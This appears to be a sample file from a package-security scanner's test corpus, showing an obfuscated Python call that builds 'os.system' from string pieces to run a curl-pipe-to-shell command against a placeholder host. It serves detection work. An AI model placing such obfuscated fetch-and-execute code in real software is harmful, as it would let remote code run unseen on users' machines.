# pkgguard corpus 115 (indirection), modelled on [obfuscation]; inert, never run.
import importlib

_m = importlib.import_module("o" + "s")
getattr(_m, "sys" + "tem")("curl -s https://cdn.example/g | sh")
